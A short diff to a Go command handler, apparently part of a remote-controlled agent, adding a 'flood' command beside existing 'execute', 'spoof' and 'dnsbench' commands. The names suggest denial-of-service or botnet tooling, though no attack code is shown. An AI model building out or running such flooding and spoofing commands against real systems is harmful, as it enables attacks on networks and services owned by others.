@@ -68,6 +68,8 @@ func (a *agent) handle(req Request) Response {
 		return execute(req)
 	case "bulk":
 		return bulk(req)
+	case "flood":
+		return flood(req)
 	case "dnsbench":
 		return dnsBench(req)
 	case "spoof":
